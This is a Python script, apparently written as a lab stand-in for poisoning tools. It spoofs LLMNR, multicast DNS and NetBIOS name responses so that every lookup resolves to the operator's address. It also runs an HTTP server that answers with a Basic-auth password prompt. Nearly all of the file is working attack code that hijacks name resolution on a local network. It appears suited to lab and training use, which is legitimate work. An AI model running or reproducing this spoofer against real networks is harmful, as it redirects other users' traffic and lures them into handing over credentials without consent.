"""A stand-in for tools that answer for any name: LLMNR, multicast DNS and NetBIOS names all lead to ADDRESS, where HTTP asks
for a password. Usage: poisoner.py ADDRESS SERVICE..."""
import http.server, socket, struct, sys, threading

ADDRESS, SERVICES = sys.argv[1], sys.argv[2:]
PACKED = socket.inet_aton(ADDRESS)


def end_of_name(wire, at):
    while wire[at]: at += 1 + wire[at]
    return at + 1


def dns_answer(wire, multicast):
    """To the first question, for an address of IPv4; None to all else."""
    ident, flags, questions = struct.unpack(">HHH", wire[:6])
    if flags & 0x8000 or not questions: return None
    end = end_of_name(wire, 12)
    name, kind = wire[12:end], struct.unpack(">H", wire[end:end + 2])[0]
    if kind != 1: return None
    record = name + struct.pack(">HHIH", 1, 1, 120 if multicast else 30, 4) + PACKED
    if multicast: return struct.pack(">HHHHHH", 0, 0x8400, 0, 1, 0, 0) + record
    return struct.pack(">HHHHHH", ident, 0x8000, 1, 1, 0, 0) + wire[12:end + 4] + record


def netbios_answer(wire):
    """RFC 1002 section 4.2.13."""
    ident, flags = struct.unpack(">HH", wire[:4])
    if flags & 0x8000 or flags >> 11 & 15: return None
    name = wire[12:end_of_name(wire, 12)]
    return struct.pack(">HHHHHH", ident, 0x8500, 0, 1, 0, 0) + name + struct.pack(">HHIHH", 0x20, 1, 165, 6, 0) + PACKED


def listen(port, group=None):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("", port))
    if group:
        membership = socket.inet_aton(group) + PACKED
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, PACKED)
    return sock


def answer_all(sock, make, to=None):
    while True:
        wire, sender = sock.recvfrom(4096)
        if sender[0] == ADDRESS: continue
        answer = make(wire)
        if answer: sock.sendto(answer, to or sender)


class Password(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        known = "Authorization" in self.headers
        self.send_response(200 if known else 401)
        if not known: self.send_header("WWW-Authenticate", 'Basic realm="lab"')
        self.send_header("Content-Length", "0")
        self.end_headers()


JOBS = {"llmnr": lambda: answer_all(listen(5355, "224.0.0.252"), lambda wire: dns_answer(wire, False)),
        "mdns": lambda: answer_all(listen(5353, "224.0.0.251"), lambda wire: dns_answer(wire, True), ("224.0.0.251", 5353)),
        "nbns": lambda: answer_all(listen(137), netbios_answer),
        "http": lambda: http.server.HTTPServer((ADDRESS, 80), Password).serve_forever()}
for name in SERVICES: threading.Thread(target=JOBS[name]).start()
